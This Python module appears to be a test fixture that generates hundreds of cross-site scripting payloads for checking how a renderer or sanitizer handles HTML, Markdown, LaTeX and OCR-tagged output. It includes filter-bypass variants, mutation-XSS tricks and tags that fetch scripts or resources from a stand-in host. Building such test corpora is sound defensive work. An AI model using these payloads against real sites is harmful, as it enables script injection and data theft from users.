"""Texts that a page may show to attack whoever looks at its result: each would run a script, fetch something or open a dialog.

What they run or fetch is named `EVIL`, so that a test sees which of them came through.
"""

from collections.abc import Iterator
from itertools import product

EVIL = "https://evil.invalid/"
RUN = "alert(1)"

_EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onbegin", "onend", "onanimationstart", "ontoggle"),
    *("onpageshow", "onscroll", "onwheel", "onpointerenter", "onbeforeprint", "oncontentvisibilityautostatechange"),
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "math",
    "table",
    "td",
    "b",
    "input autofocus",
    "video src=x",
    "a href=x",
)
_SCHEMES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
    ),
    *(
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6a;avascript&#58;alert(1)",
        "\x01javascript:alert(1)",
    ),
    *(
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ),
    *(
        "view-source:javascript:alert(1)",
        "feed:javascript:alert(1)",
        "javascript://%0aalert(1)",
        "javascript\u200b:alert(1)",
    ),
    "blob:https://evil.invalid/1",
)
_LINKS = (
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x][1]\n\n[1]: {}",
    '<a href="{}">x</a>',
    r"\(\href{{{}}}{{x}}\)",
    "[![x]({})](y)",
)
_FETCHED = (
    *('<img src="{}">', '<img srcset="{} 2x">', '<image href="{}">', '<link rel=stylesheet href="{}">', "![x]({})"),
    *(
        '<link rel=prefetch href="{}">',
        '<link rel=dns-prefetch href="{}">',
        '<iframe src="{}"></iframe>',
        '<embed src="{}">',
    ),
    *('<object data="{}"></object>', '<video poster="{}" src="{}"></video>', '<audio src="{}" autoplay></audio>'),
    *(
        '<source src="{}">',
        '<track src="{}">',
        '<input type=image src="{}">',
        '<body background="{}">',
        '<td background="{}">',
    ),
    *('<frameset><frame src="{}"></frameset>', '<svg><image href="{}"/></svg>', '<svg><use href="{}#a"/></svg>'),
    *('<svg><feImage xlink:href="{}"/></svg>', '<math><mglyph src="{}"/></math>', '<script src="{}"></script>'),
    *('<style>@import "{}";</style>', "<style>*{{background:url({})}}</style>", '<p style="background:url({})">x</p>'),
    *(
        "<style>@font-face{{font-family:a;src:url({})}}*{{font-family:a}}</style>",
        '<meta http-equiv=refresh content="0;url={}">',
    ),
    *(
        '<base href="{}"><img src=x>',
        '<form action="{}"><button autofocus>x</button></form>',
        '<a ping="{}" href="{}">x</a>',
    ),
    *('<portal src="{}"></portal>', '<html manifest="{}">', r"\(\includegraphics{{{}}}\)", '![][1]\n\n[1]: {} "t"'),
    *(
        '<template><img src="{}"></template>',
        '<noscript><img src="{}"></noscript>',
        '<picture><source srcset="{}"><img></picture>',
    ),
    *(
        '<svg><style>@import url("{}")</style></svg>',
        "<img src=`{}`>",
        '<x style="list-style:url({})">',
        '<isindex action="{}">',
    ),
    *(
        '<link rel=preconnect href="{}">',
        '<?xml-stylesheet href="{}"?>',
        "<!DOCTYPE a SYSTEM '{}'>",
        '<bgsound src="{}">',
    ),
)
_BY_HAND = (
    *(
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script\n>alert(1)</script\n>",
        "<script/x>alert(1)</script>",
    ),
    *(
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "<script>alert(1)",
        "</title><script>alert(1)</script>",
    ),
    *("</style><script>alert(1)</script>", "</code></pre><script>alert(1)</script>", "--><script>alert(1)</script>"),
    *(
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
    ),
    *(
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href='data:,alert(1)'/>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
    ),
    *("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=onload to=alert(1)></svg>"),
    *("<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",),
    *("<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>",),
    *("<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",),
    *("<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",),
    *("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",),
    *("<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",),
    *("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",),
    *(
        "<math><semantics><annotation-xml encoding='application/xhtml+xml'><img src=x onerror=alert(1)></annotation-xml>",
    ),
    *("<math href='javascript:alert(1)'>x</math>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>"),
    *(
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
    ),
    *(
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    ),
    *(
        "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
        "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'>",
    ),
    *("<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>"),
    *("<form action=javascript:alert(1)><button autofocus>", "<button formaction=javascript:alert(1)>x</button>"),
    *("<isindex type=image src=1 onerror=alert(1)>", "<marquee onstart=alert(1)>", "<dialog open onclose=alert(1)>"),
    *(
        "<p style='width:expression(alert(1))'>",
        "<div style='behavior:url(x)'>",
        "<p style='animation:a' onanimationend=alert(1)>",
    ),
    *(
        "<style>*{x:expression(alert(1))}</style>",
        "<x onclick=alert(1) tabindex=1 autofocus>",
        "<base href='javascript:alert(1)//'>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        '<meta http-equiv=Content-Security-Policy content="script-src *">',
    ),
    *(
        "<html onload=alert(1)>",
        "<body/onload=alert(1)>",
        "<img src=x:x onerror\x0c=alert(1)>",
        "<img\x0bsrc=x onerror=alert(1)>",
    ),
    *(
        '<img src=x onerror="alert(1)"',
        "<img \x00src=x o\x00nerror=alert(1)>",
        "<\x00script>alert(1)</script>",
        "<img/src='x'/onerror='alert(1)'>",
    ),
    *(
        "<a href='jav&#x09;ascript:alert(1)'>x</a>",
        '<a href="&#1;javascript:alert(1)">x</a>',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ),
    *(
        "&#60;img src=x onerror=alert(1)&#62;",
        "&amp;lt;script&amp;gt;alert(1)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ),
    *(
        "\u202e<script>alert(1)</script>\u202c",
        "\u2066<img src=x onerror=alert(1)>\u2069",
        "＜script＞alert(1)＜/script＞",
    ),
    *(
        "`<script>alert(1)</script>`",
        "```\n<script>alert(1)</script>\n```",
        '```"><script>alert(1)</script>\nx\n```',
        "    <script>alert(1)</script>",
    ),
    *(
        "[x](<javascript:alert(1)>)",
        '[x](javascript:alert(1) "t")',
        '[a](https://b" onmouseover=alert(1) ")',
        "[a](https://b 't\" onclick=alert(1) x=\"')",
    ),
    *(
        '![x" onerror="alert(1)](y)',
        "![<img src=x onerror=alert(1)>](y)",
        "[<img src=x onerror=alert(1)>](y)",
        '<https://a"onclick=alert(1)>',
    ),
    *(
        "[x]: javascript:alert(1)\n\n[x]",
        "[x]: <javascript:alert(1)> 'a'\n[x][]",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    ),
    *(
        "# <img src=x onerror=alert(1)>",
        "- <svg onload=alert(1)>",
        "> <script>alert(1)</script>",
        "**<img src=x onerror=alert(1)>**",
    ),
    *(
        r"\(\text{<script>alert(1)</script>}\)",
        r"\(\text{<img src=x onerror=alert(1)>}\)",
        r"\(\text{&lt;script&gt;alert(1)&lt;/script&gt;}\)",
    ),
    *(
        r"\(\style{background:url(https://evil.invalid/)}{x}\)",
        r"\(\class{a\" onclick=\"alert(1)}{x}\)",
        r"\(\href{javascript:alert(1)}{x}\)",
    ),
    *(
        r"\(\unicode{<svg onload=alert(1)>}\)",
        r"\(\mathbf{<img src=x onerror=alert(1)>}\)",
        r"\(</math><script>alert(1)</script>\)",
    ),
    *(
        r"\(\color{red\" onclick=\"alert(1)}{x}\)",
        r"\(\operatorname{<script>alert(1)</script>}\)",
        r"\[\tag{<script>alert(1)</script>} x^2\]",
    ),
    *(
        r"\(\verb|<script>alert(1)</script>|\)",
        r"\(\html{<img src=x onerror=alert(1)>}\)",
        r"\(\require{html}\cssId{a}{x}\)",
    ),
    *(
        r"\(\hspace{99999999em}x\rule{9999em}{9999em}\)",
        r"\(\begin{array}{c\" onclick=alert(1)}x\end{array}\)",
        r"\(\colorbox{url(https://evil.invalid/)}{x}\)",
    ),
    *(
        "<table><tr><td rowspan='1\" onclick=\"alert(1)'>x</table>",
        "<table onload=alert(1)><tr><td><script>alert(1)</script></td></tr></table>",
    ),
    *(
        "<table><tr><td><table><tr><td><img src=x onerror=alert(1)></table></table>",
        "<table><tr><td></table><script>alert(1)</script>",
    ),
    *(
        "<table><caption><svg onload=alert(1)></caption><tr><td>x",
        r"<table><tr><td>\(\text{<img src=x onerror=alert(1)>}\)</td></tr></table>",
    ),
    *(
        r"<table><tr><td>\(</td></tr></table><script>alert(1)</script>\)",
        "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    ),
    *(
        "<b " * 50 + "onclick=alert(1)>",
        "<div>" * 3000 + "<script>alert(1)</script>",
        "<b>" * 2000 + "<img src=x onerror=alert(1)>",
    ),
    *(
        "> " * 500 + "<script>alert(1)</script>",
        r"\(" + "{" * 900 + r"<script>alert(1)</script>" + "}" * 900 + r"\)",
        "[" * 3000 + "](javascript:alert(1))",
    ),
    *(
        "<img src=x onerror=alert(1)>" * 500,
        "<p" + " a" * 5000 + " onclick=alert(1)>",
        "A" * 20_000 + "<script>alert(1)</script>",
    ),
    *(
        "<|ref|><script>alert(1)</script><|/ref|><|det|>[[0,0,9,9]]<|/det|>\nx",
        "<|ref|>title<|/ref|><|det|>[[0,0,9,9]]<|/det|>\n<svg onload=alert(1)>",
    ),
    *(
        "<|ref|>image<|/ref|><|det|>[[0,0,9,9]]<|/det|>\n![x](https://evil.invalid/)",
        "<|ref|>code<|/ref|><|det|>[[0,0,9,9]]<|/det|>\n</code></pre><script>alert(1)</script>",
    ),
    *(
        "<|ref|>equation<|/ref|><|det|>[[0,0,9,9]]<|/det|>\n\\[ \\text{<script>alert(1)</script>} \\]",
        "<|ref|>equation<|/ref|><|det|>[[0,0,9,9]]<|/det|>\n<img src=x onerror=alert(1)>",
    ),
    *(
        '<|ref|>image" onerror="alert(1)<|/ref|><|det|>[[0,0,9,9]]<|/det|>\nx',
        "<|ref|>table<|/ref|><|det|>[[0,0,9,9]]<|/det|>\n<table><tr><td><svg/onload=alert(1)>",
    ),
    *(
        "<s\ud800cript>alert(1)</script>",
        "<img src=x onerror=alert(1)>\ud800",
        "</section></main></body></html><script>alert(1)</script>",
    ),
    *(
        '"><script>alert(1)</script>',
        "'-alert(1)-'",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "javascript:alert(1)",
    ),
    *(
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<%<script>alert(1)</script>%>",
        "<?php echo '<script>alert(1)</script>' ?>",
    ),
    *(
        "<slot onslotchange=alert(1)></slot>",
        "<x is=y onclick=alert(1)>",
        "<div shadowrootmode=open><template shadowrootmode=open><script>alert(1)</script>",
    ),
)


def attack_texts() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys([*_BY_HAND, *_event_handlers(), *_schemes(), *_fetched()]))


def _event_handlers() -> Iterator[str]:
    for at, (event, tag) in enumerate(product(_EVENTS, _TAGS)):
        if at % 4 == 0:
            yield f"<{tag} {event}={RUN}>x"


def _schemes() -> Iterator[str]:
    return (link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES))


def _fetched() -> Iterator[str]:
    return (form.format(*[f"{EVIL}{at}"] * form.count("{}")) for at, form in enumerate(_FETCHED))
